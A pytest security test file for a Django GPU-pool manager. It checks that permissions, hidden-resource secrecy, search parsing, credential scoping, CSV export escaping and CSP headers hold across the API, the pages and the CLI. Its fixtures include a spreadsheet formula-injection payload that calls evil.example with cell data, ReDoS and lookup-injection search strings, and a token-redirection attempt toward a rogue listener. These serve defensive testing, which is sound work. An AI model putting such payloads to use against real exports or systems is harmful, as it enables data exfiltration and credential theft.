"""SEMANTICS §7.4: the same rules on every door. Each attempt of the one-door review, tried as the limited user who
made it, through every door that reaches the same object: the REST API, the pages and ``poolctl --as``.

The kube-apiserver part (a gpuctl pool file relabelling a node of a hidden pool in the cluster) is in
``tests/integration/test_hidden_nodes.py``.
"""

from __future__ import annotations

import http.server
import threading
import time
from datetime import timedelta

import pytest
import requests
from django.db import connection
from django.utils import timezone
from kube_objects import node, pod
from people import person, poolctl, role, service_account, signed_in
from rest_framework.test import APIClient

from accounts.access import SYSTEM
from accounts.models import ApiToken
from pools import selectors, services
from pools.choices import ConfigType
from pools.models import Backend, GpuConsumption, Node, NodeMembership, Pod, Pool, Project
from pools.telemetry.prometheus import PrometheusError

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def estate(cluster, actor):
    """Pools ``teama-gpu`` and ``teamb-gpu`` on one cluster, team B's node carrying a formula in its GPU product,
    and the limited people of the review:

    - ``um`` manages users (``user:Read``/``user:Update`` on ``user/*``) and nothing else;
    - ``tess`` sees the ``teama*`` pools and may change pools and backends, and operate the backend;
    - ``rick`` researches in project ``proj-a`` (``project:Read`` on it) and sees the ``teama*`` pools;
    - ``admin`` is the bootstrap superuser, ``ops`` holds ``osmo-admin``.
    """
    cluster(
        [
            node("n-a1", labels={"team": "a"}, gpu=8),
            node("n-b1", labels={"team": "b", "nvidia.com/gpu.product": FORMULA}, gpu=8),
            pod("train-a", node="n-a1", gpu=2, pool="teama-gpu"),
            pod("train-b", node="n-b1", gpu=4, pool="teamb-gpu", namespace="research"),
        ]
    )
    services.config_apply(
        changes={
            ConfigType.POD_TEMPLATE: {
                "a": {"spec": {"nodeSelector": {"team": "a"}}},
                "b": {"spec": {"nodeSelector": {"team": "b"}}},
            },
            ConfigType.POOL: {
                "teama-gpu": {"backend": "test-cluster", "common_pod_template": ["a"]},
                "teamb-gpu": {"backend": "test-cluster", "common_pod_template": ["b"]},
            },
        },
        actor=actor,
    )
    quotas = [{"nodePool": "teama-gpu", "gpu": {"deserved": 1}}, {"nodePool": "teamb-gpu", "gpu": {"deserved": 1}}]
    services.config_apply(
        changes={
            ConfigType.DEPARTMENT: {"dept": {"resources": quotas}},
            ConfigType.PROJECT: {
                "proj-a": {"department": "dept", "namespaces": ["team-a"], "resources": quotas},
                "deep-research": {"department": "dept", "namespaces": ["research"], "resources": quotas},
            },
        },
        actor=actor,
    )
    poolctl("role", "set", "osmo-teama", "pool")
    role("user-manager", {"actions": ["user:Read", "user:Update"], "resources": ["user/*"]})
    role(
        "teama-editor",
        {"actions": ["config:Update"], "resources": ["config/POOL", "config/BACKEND", "config/PROJECT"]},
        {"actions": ["config:Read"], "resources": ["config/POD_TEMPLATE"]},
        {"actions": ["backend:Read", "backend:Update"], "resources": ["backend/*"]},
        {"actions": ["department:Read", "department:Update"], "resources": ["department/dept"]},
        {"actions": ["project:Read"], "resources": ["project/proj-a*"]},
    )
    role("proj-a-researcher", {"actions": ["project:Read"], "resources": ["project/proj-a"]})
    return {
        "admin": person("admin", password=None, is_superuser=True),
        "ops": person("ops", "osmo-admin", password=None),
        "um": person("um", "user-manager", password=None),
        "tess": person("tess", "osmo-teama", "teama-editor", password=None),
        "rick": person("rick", "osmo-teama", "proj-a-researcher", password=None),
    }


def api(user) -> APIClient:
    client = APIClient()
    client.force_authenticate(user)
    return client


def cli(user, *args: str):
    """``poolctl --as USER ...``: its error (None when it succeeded)."""
    try:
        poolctl("--as", user.username, *args)
    except Exception as exc:  # CommandError: what the operator reads
        return str(exc)
    return None


# --- tokens and users ---------------------------------------------------------------------------------------


def test_a_user_manager_never_acts_as_an_administrator(estate):
    um = estate["um"]
    refused = api(um).post("/api/users/admin/tokens/", {"name": "mine"}, format="json")
    assert refused.status_code == 403 and "superuser" in refused.json()["errors"][0]["message"]
    page = signed_in(um).post("/access/users/admin/", {"action": "token", "name": "mine", "expires": "30d"})
    assert page.status_code == 403
    assert "superuser" in cli(um, "token", "create", "--user", "admin")
    # Nor as someone holding osmo-admin without being a superuser, whose token would act with *:* as well.
    assert api(um).post("/api/users/ops/tokens/", {"name": "mine"}, format="json").status_code == 403
    assert "osmo-admin" in cli(um, "token", "create", "--user", "ops")
    assert not ApiToken.objects.filter(user__username__in=["admin", "ops"]).exists()

    # Roles: taking osmo-admin away (or anything from a superuser) needs osmo-admin; so does any act on them.
    assert api(um).put("/api/users/ops/roles/", {"roles": []}, format="json").status_code == 403
    assert signed_in(um).post("/access/users/ops/", {"roles": []}).status_code == 403
    assert cli(um, "user", "set-roles", "ops", "") is not None
    assert api(um).put("/api/users/admin/roles/", {"roles": ["user-manager"]}, format="json").status_code == 403
    assert sorted(estate["ops"].groups.values_list("name", flat=True)) == ["osmo-admin"]

    # What the manager may do: a token for a service account that can do nothing the manager cannot.
    service_account("ci-bot")
    made = api(um).post("/api/users/ci-bot/tokens/", {"name": "ci"}, format="json")
    assert made.status_code == 201


def test_an_administrator_still_acts_on_users(estate):
    admin = estate["admin"]
    assert api(admin).post("/api/users/ops/tokens/", {"name": "ops-token"}, format="json").status_code == 201
    assert api(admin).put("/api/users/ops/roles/", {"roles": []}, format="json").status_code == 200


# --- what a writer cannot see does not exist for them ---------------------------------------------------------


def _n_b1_memberships():
    return sorted(NodeMembership.objects.filter(node__name="n-b1").values_list("pool__name", flat=True))


def test_a_pool_that_would_select_a_node_of_a_hidden_pool_is_refused_on_every_door(estate, tmp_path):
    tess = estate["tess"]
    body = {"backend": "test-cluster", "node_label": {"key": "kubernetes.io/hostname", "value": "n-b1"}}
    answer = api(tess).post("/api/pools/", {"name": "teama-steal", **body}, format="json")
    assert answer.status_code == 400 and "teamb" not in answer.content.decode()
    assert "nothing was changed" in answer.json()["errors"][0]["message"]

    document = tmp_path / "steal.json"
    document.write_text('{"backend": "test-cluster", "node_label": {"key": "team", "value": "b"}}')
    error = cli(tess, "config", "update", "POOL", "teama-steal", "--file", str(document))
    assert "nothing was changed" in error and "teamb" not in error

    form = {
        "name": "teama-steal",
        "backend": "test-cluster",
        "node_label": "kubernetes.io/hostname=n-b1",
        "gpu_guarantee": "-1",
        "gpu_maximum": "-1",
        "gpu_weight": "1",
        "gpu_placement_strategy": "binpack",
        "cpu_placement_strategy": "binpack",
        "platforms": "{}",
        "common_default_variables": "{}",
    }
    page = signed_in(tess).post("/pools/new/", form)
    assert page.status_code == 400 and "teamb" not in page.content.decode()

    # Team A's own pool changed to select team B's node: the same.
    changed = api(tess).put("/api/pools/teama-gpu/", body, format="json")
    assert changed.status_code == 400 and "teamb" not in changed.content.decode()
    assert not Pool.objects.filter(name="teama-steal").exists()
    assert _n_b1_memberships() == ["teamb-gpu"]
    assert not Pod.objects.restrict(tess).filter(name="train-b").exists()


def test_a_writer_may_still_narrow_their_own_pool(estate):
    """Leaving a pool one may see is one's own to decide: a selector narrowed, a pool deleted."""
    services.config_apply(
        changes={ConfigType.POOL: {"teama-wide": {"backend": "test-cluster", "common_pod_template": ["a"]}}},
        actor=services.SYSTEM,
    )
    answer = api(estate["tess"]).delete("/api/pools/teama-wide/")
    assert answer.status_code == 204


def test_a_node_of_a_hidden_pool_cannot_be_relabelled_and_answers_as_missing(estate):
    tess = estate["tess"]
    hidden = api(tess).patch("/api/nodes/n-b1/labels/", {"key": "team", "value": "a", "overwrite": True}, format="json")
    missing = api(tess).patch(
        "/api/nodes/n-zz/labels/", {"key": "team", "value": "a", "overwrite": True}, format="json"
    )
    assert hidden.status_code == missing.status_code == 404
    assert hidden.json()["errors"][0]["message"].replace("n-b1", "N") == missing.json()["errors"][0]["message"].replace(
        "n-zz", "N"
    )
    assert cli(tess, "node", "label", "n-b1", "team=a", "--overwrite").replace("n-b1", "N") == cli(
        tess, "node", "label", "n-zz", "team=a", "--overwrite"
    ).replace("n-zz", "N")


def test_refusals_never_name_a_hidden_project(estate):
    tess = estate["tess"]
    answer = api(tess).post(
        "/api/projects/", {"name": "proj-a2", "department": "dept", "namespaces": ["research"]}, format="json"
    )
    assert answer.status_code == 400
    text = answer.content.decode()
    assert "deep-research" not in text and "belongs to another project" in text
    own = api(tess).post(
        "/api/projects/", {"name": "proj-a3", "department": "dept", "namespaces": ["team-a"]}, format="json"
    )
    assert "project 'proj-a'" in own.content.decode()
    assert not Project.objects.filter(name__in=["proj-a2", "proj-a3"]).exists()


# --- search is a small fixed grammar -----------------------------------------------------------------------


SEARCHES_THAT_WERE_LOOKUPS = [r"regex=(.*)(.*)(.*)\1\2\3x", "x__isnull=maybe", "team__regex=.*", "labels__has_key=x"]


@pytest.mark.parametrize("text", SEARCHES_THAT_WERE_LOOKUPS)
def test_a_search_is_never_a_database_lookup(estate, text):
    admin = estate["admin"]
    started = time.monotonic()
    for answer in (
        api(admin).get("/api/resources/", {"q": text}),
        api(admin).get("/api/nodes/", {"q": text}),
        signed_in(admin).get("/nodes/", {"q": text}),
    ):
        assert answer.status_code == 200, answer.content[:300]
        assert "n-a1" not in answer.content.decode()
    assert poolctl("resource", "list", "--search", text, "--format", "json") == '{\n  "resources": []\n}\n'
    assert time.monotonic() - started < 5


def test_search_words_and_labels(estate):
    admin = estate["admin"]

    def nodes(text):
        return sorted({row["node"] for row in api(admin).get("/api/resources/", {"q": text}).json()["resources"]})

    assert nodes("team=a") == ["n-a1"]
    assert nodes("TEAM") == ["n-a1", "n-b1"]  # a word finds label keys, in any case
    assert nodes("n-b1 team") == ["n-b1"]  # every term must match
    assert nodes("team=") == []  # team with an empty value: nobody
    too_long = api(admin).get("/api/resources/", {"q": "x" * 257})
    assert too_long.status_code == 400 and too_long.json()["errors"][0]["field"] in ("q", "")
    assert signed_in(admin).get("/nodes/", {"q": " ".join("w" * 9)}).status_code == 400


@pytest.mark.skipif(connection.vendor != "postgresql", reason="statement_timeout is PostgreSQL's")
def test_a_statement_past_the_cap_answers_503_saying_so(live_server, settings, monkeypatch):
    person("root", password=None, is_superuser=True)
    settings.GPUPOOL = {**settings.GPUPOOL, "STATEMENT_TIMEOUT_MS": 200}
    original = selectors.resource_list

    def slow(**kwargs):
        with connection.cursor() as cursor:
            cursor.execute("SELECT pg_sleep(2)")
        return original(**kwargs)

    monkeypatch.setattr(selectors, "resource_list", slow)
    token = poolctl("token", "create", "--user", "root").strip().splitlines()[-1]
    started = time.monotonic()
    answer = requests.get(f"{live_server.url}/api/resources/", headers={"Authorization": f"Bearer {token}"}, timeout=10)
    assert answer.status_code == 503 and "stopped this request" in answer.json()["errors"][0]["message"]
    assert answer.headers["Retry-After"]
    assert time.monotonic() - started < 1.5


# --- numbers are parsed once, bounded first ----------------------------------------------------------------


def test_a_huge_number_is_refused_at_once_on_every_door(estate):
    admin = estate["admin"]
    started = time.monotonic()
    cell = {"pool-0": "teama-gpu", "unit-0": "project/proj-a", "q-0-0-deserved": "1e999999999"}
    grid = signed_in(admin).post("/quotas/", cell)
    assert grid.status_code == 400 and b"is not a number" in grid.content
    patch = api(admin).patch(
        "/api/quotas/",
        {"quotas": [{"unit": "proj-a", "nodePool": "teama-gpu", "gpu": {"deserved": "1e999999999"}}]},
        format="json",
    )
    assert patch.status_code == 400
    error = cli(admin, "quota", "set", "proj-a", "--pool", "teama-gpu", "--gpu-deserved", "1e999999999")
    assert error is not None
    assert time.monotonic() - started < 2
    assert (
        selectors.config_show(config_type=ConfigType.PROJECT, name="proj-a", user=admin)["proj-a"]["resources"][0][
            "gpu"
        ]["deserved"]
        == 1
    )


# --- secrets stay with what they were made for -------------------------------------------------------------


class _Listener(http.server.ThreadingHTTPServer):
    """A stand-in for someone's own HTTP listener: it keeps the Authorization headers it was sent."""

    def __init__(self):
        self.authorizations: list[str] = []
        listener = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):  # noqa: N802 (http.server's name)
                listener.authorizations.append(self.headers.get("Authorization", ""))
                self.send_response(200)
                self.send_header("Content-Type", "application/json")
                self.end_headers()
                self.wfile.write(b'{"status":"success","data":{"resultType":"vector","result":[]}}')

            do_POST = do_GET  # noqa: N815 (the client asks Prometheus's API by POST)

            def log_message(self, *args):
                pass

        super().__init__(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.serve_forever, daemon=True).start()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"


def _backend_body(name: str) -> dict:
    return selectors.config_show(config_type=ConfigType.BACKEND, name=name, user=SYSTEM)[name]


def test_prometheus_credentials_go_only_where_an_administrator_confirmed_them(estate, monkeypatch):
    tess, admin = estate["tess"], estate["admin"]
    listener = _Listener()
    try:
        monkeypatch.setenv("GPUPOOL_PROMETHEUS_PROD_TOKEN", "prod-secret")
        monkeypatch.setenv("GPUPOOL_PROMETHEUS_TEST_CLUSTER_TOKEN", "test-secret")
        services.config_apply(
            changes={ConfigType.BACKEND: {"prod": {"kind": "simulated", "seed": 1, "size": 1}}}, actor=services.SYSTEM
        )
        body = _backend_body("test-cluster")
        # Another backend's credentials are not this backend's to name.
        stolen = {**body, "prometheus_url": listener.url, "prometheus_token_env": "GPUPOOL_PROMETHEUS_PROD_TOKEN"}
        answer = api(tess).put("/api/backends/test-cluster/", stolen, format="json")
        assert answer.status_code == 400 and answer.json()["errors"][0]["field"] == "prometheus_token_env"

        # Its own, towards a URL the editor chose: nothing is sent until an administrator confirms the URL.
        own = {**body, "prometheus_url": listener.url, "prometheus_token_env": "GPUPOOL_PROMETHEUS_TEST_CLUSTER_TOKEN"}
        assert api(tess).put("/api/backends/test-cluster/", own, format="json").status_code == 200
        backend = Backend.objects.get(name="test-cluster")
        with pytest.raises(PrometheusError, match="not sent"):
            selectors.prometheus_client(backend)
        services.utilization_record(backend=backend)
        assert listener.authorizations == []

        assert api(admin).put("/api/backends/test-cluster/", own, format="json").status_code == 200
        backend.refresh_from_db()
        selectors.prometheus_client(backend).query("up")
        assert listener.authorizations == ["Bearer test-secret"]
    finally:
        listener.shutdown()
        listener.server_close()


def test_a_kubeconfig_is_read_only_from_its_directory(estate):
    body = {"kind": "kubernetes", "kubeconfig": "/root/.kube/config"}
    answer = api(estate["admin"]).post("/api/backends/", {"name": "other", **body}, format="json")
    assert answer.status_code == 400 and answer.json()["errors"][0]["field"] == "kubeconfig"


# --- exports are inert -----------------------------------------------------------------------------------------


def test_csv_cells_that_begin_like_a_formula_are_text(estate):
    admin = estate["admin"]
    for answer in (signed_in(admin).get("/nodes/", {"format": "csv"}), api(admin).get("/api/resources/?format=csv")):
        text = answer.content.decode()
        assert "'" + FORMULA.replace('"', '""') in text
        assert "," + FORMULA.replace('"', '""') not in text and '"' + FORMULA.replace('"', '""') not in text


# --- a project's figures are read like every project read ----------------------------------------------------


def test_consumption_by_project_shows_only_the_projects_one_may_read(estate):
    backend = Backend.objects.get(name="test-cluster")
    hour = timezone.now().replace(minute=0, second=0, microsecond=0) - timedelta(hours=1)
    GpuConsumption.objects.bulk_create(
        GpuConsumption(
            backend=backend,
            resolution=resolution,
            start=start,
            pool="teama-gpu",
            dimension="project",
            value=project,
            allocated=hours,
            idle=0,
        )
        for resolution, start in (
            (GpuConsumption.Resolution.HOUR, hour),
            (GpuConsumption.Resolution.DAY, hour.replace(hour=0)),
        )
        for project, hours in (("proj-a", 3), ("deep-research", 5))
    )
    rick = estate["rick"]
    report = api(rick).get("/api/consumption/", {"by": "project"}).json()
    assert [row["project"] for row in report["rows"]] == ["proj-a"]
    assert report["total"]["allocated_gpu_hours"] == report["rows"][0]["allocated_gpu_hours"]
    assert "deep-research" not in signed_in(rick).get("/consumption/", {"by": "project"}).content.decode()
    assert "deep-research" not in poolctl("--as", "rick", "get", "consumption", "--by", "project")
    assert "deep-research" in poolctl("get", "consumption", "--by", "project")


# --- headers -----------------------------------------------------------------------------------------------


def test_every_page_sends_a_content_security_policy_without_inline_scripts(estate):
    client = signed_in(estate["admin"])
    for path in ("/", "/nodes/", "/pools/teama-gpu/", "/api/docs/", "/api/redoc/", "/admin/", "/accounts/login/"):
        policy = client.get(path).headers.get("Content-Security-Policy", "")
        script = next(part for part in policy.split(";") if part.strip().startswith("script-src"))
        assert "'self'" in script and "unsafe-inline" not in script and "unsafe-eval" not in script, path
        assert "frame-ancestors 'none'" in policy


def test_pages_hold_no_inline_script():
    from pathlib import Path

    root = Path(__file__).resolve().parent.parent / "templates"
    offenders = [
        str(path)
        for path in root.rglob("*.html")
        if any(marker in path.read_text() for marker in ("<script>", " onclick=", " onchange=", " onsubmit=", "hx-on"))
    ]
    assert offenders == []


def test_node_rows_are_unchanged_by_a_refused_write(estate):
    """A refused change leaves no trace: the node table as the hidden pool's readers see it."""
    before = list(Node.objects.order_by("name").values_list("name", "placements"))
    api(estate["tess"]).post(
        "/api/pools/",
        {"name": "teama-x", "backend": "test-cluster", "node_label": {"key": "team", "value": "b"}},
        format="json",
    )
    assert list(Node.objects.order_by("name").values_list("name", "placements")) == before
